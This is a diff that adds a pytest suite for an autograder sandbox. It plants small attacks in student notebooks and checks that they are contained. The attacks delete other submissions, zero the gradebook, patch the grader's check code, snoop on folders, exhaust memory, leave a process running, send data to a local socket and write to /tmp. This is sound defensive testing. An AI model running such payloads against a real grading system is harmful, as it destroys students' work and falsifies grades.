@@ -1,0 +1,195 @@
+"""Hostile submissions, graded in one run between two honest students, with the sandbox on.
+
+Each attacker hands in lesson 01 with the right solution and, at the top of its solution
+cell, one attack (what a student on deadline night might try). For every attack: the honest
+students' grades are what they would be without it, the submissions, the gradebook and the
+repository are unchanged, nothing the attack started is still running, and what the attack
+could see of the workspace is only its own folder.
+"""
+
+import hashlib
+import socket
+import subprocess
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from autograder import lessons
+from autograder.make_samples import filled
+from autograder.pipeline import Pipeline
+
+LESSON = "01_embedding"
+HONEST = ("abe", "zoe")  # graded first and last
+MARKER = "4242.4242"  # in the command line of every process an attack leaves behind
+CHECKS_FILE = lessons.ROOT / "autograder" / "checks" / "attention.py"
+
+ATTACKS = {
+    "deleter": """
+import glob, os, shutil
+for path in glob.glob("../../../submitted/*") + glob.glob("../../../autograded/*") + glob.glob("../../*"):
+    if not path.endswith("deleter"):
+        shutil.rmtree(path, ignore_errors=True)
+""",
+    "gradebook": """
+import glob, sqlite3
+for path in glob.glob("../../../*.db") + glob.glob("../../../../*.db"):
+    db = sqlite3.connect(path)
+    db.execute("UPDATE grade SET auto_score = 0")
+    db.commit()
+""",
+    "patcher": f"""
+with open({str(CHECKS_FILE)!r}, "a") as handle:
+    handle.write("\\ndef check_attention_values(fn):\\n    pass\\n")
+""",
+    "spy": """
+import glob, os
+print("found:", sorted(glob.glob("../../*")), sorted(glob.glob("../../../*")))
+""",
+    "hog": """
+hoard = bytearray(6 * 2**30)
+""",
+    "lingerer": f"""
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep({MARKER})"], start_new_session=True)
+""",
+    "caller": """
+import socket
+socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
+""",
+    "tmp_writer": """
+with open("/tmp/course-hostile-tmp-writer", "w") as handle:
+    handle.write("left behind")
+""",
+}
+
+
+def _digest(paths) -> dict[str, str]:
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(paths) if p.is_file()}
+
+
+def _attacker(attack: str) -> nbformat.NotebookNode:
+    nb = filled(LESSON)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("solution"):
+            cell.source = attack.strip() + "\n\n\n" + cell.source
+    return nb
+
+
+def _leftovers() -> list[str]:
+    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
+    return [line for line in ps.splitlines() if MARKER in line and "ps -eo" not in line]
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("hostile")
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.5)
+    received: list[bytes] = []
+    stop = threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            try:
+                connection, _ = listener.accept()
+            except TimeoutError:
+                continue
+            received.append(connection.recv(100))
+
+    threading.Thread(target=listen, daemon=True).start()
+    port = listener.getsockname()[1]
+
+    inbox = tmp / "inbox"
+    notebooks = {student: filled(LESSON) for student in HONEST}
+    notebooks |= {name: _attacker(code.replace("PORT", str(port))) for name, code in ATTACKS.items()}
+    for student, nb in notebooks.items():
+        path = inbox / student / LESSON / lessons.notebook_name(LESSON)
+        path.parent.mkdir(parents=True)
+        nbformat.write(nb, path)
+    repository = _digest(lessons.ROOT.glob("autograder/**/*.py"))
+    pipeline = Pipeline(tmp / "workspace", release=tmp / "release", log=lambda *_: None)
+    pipeline.release([LESSON])
+    pipeline.collect_folder(inbox)
+    submitted = _digest(pipeline.submitted.rglob("*"))
+    pipeline.autograde()
+    stop.set()
+    return {
+        "pipeline": pipeline,
+        "repository": repository,
+        "submitted": submitted,
+        "received": received,
+        "leftovers": _leftovers(),
+    }
+
+
+def _outputs(pipeline: Pipeline, student: str) -> str:
+    path = pipeline.workspace / "autograded" / student / LESSON / lessons.notebook_name(LESSON)
+    nb = nbformat.read(path, as_version=4)
+    texts = [
+        output.get("text", "") + output.get("ename", "") + output.get("evalue", "")
+        for cell in nb.cells
+        for output in cell.get("outputs", [])
+    ]
+    return "\n".join(texts)  # what was printed and raised, not the figures
+
+
+def test_honest_students_keep_every_point(graded):
+    scores = graded["pipeline"].scores()
+    assert [scores[(student, LESSON)] for student in HONEST] == [(3.0, 3.0), (3.0, 3.0)]
+
+
+def test_the_submissions_and_the_repository_are_unchanged(graded):
+    pipeline = graded["pipeline"]
+    assert _digest(pipeline.submitted.rglob("*")) == graded["submitted"]
+    assert _digest(lessons.ROOT.glob("autograder/**/*.py")) == graded["repository"]
+    graded_folders = {p.name for p in (pipeline.workspace / "autograded").iterdir()}
+    assert graded_folders == set(HONEST) | set(ATTACKS)
+
+
+# An attack that raised in its solution cell left the class undefined, so its tests fail: it
+# scores 0. One that ran without an error (in its own folder, or on nothing it could reach)
+# keeps the points of its correct solution, and no more.
+EARNED = {
+    "deleter": 3.0,
+    "gradebook": 3.0,
+    "patcher": 0.0,
+    "spy": 3.0,
+    "hog": 0.0,
+    "lingerer": 3.0,
+    "caller": 0.0,
+    "tmp_writer": 3.0,
+}
+
+
+def test_each_attacker_gets_the_points_of_what_ran_and_no_more(graded):
+    scores = graded["pipeline"].scores()
+    assert {attack: scores[(attack, LESSON)][0] for attack in ATTACKS} == EARNED
+
+
+def test_a_spy_sees_only_its_own_folder(graded):
+    seen = _outputs(graded["pipeline"], "spy")
+    assert "found: ['../../spy'] ['../../../autograded']" in seen, seen[:2000]
+    for student in (*HONEST, "deleter"):
+        assert student not in seen.replace("../../spy", "")
+
+
+def test_no_network(graded):
+    assert graded["received"] == []
+    assert "ConnectionRefusedError" in _outputs(graded["pipeline"], "caller")
+
+
+def test_memory_is_capped(graded):
+    assert "MemoryError" in _outputs(graded["pipeline"], "hog")
+
+
+def test_no_process_outlives_its_notebook(graded):
+    assert graded["leftovers"] == []
+
+
+def test_tmp_is_private(graded):
+    assert not Path("/tmp/course-hostile-tmp-writer").exists()
+    assert "Read-only file system" in _outputs(graded["pipeline"], "patcher")
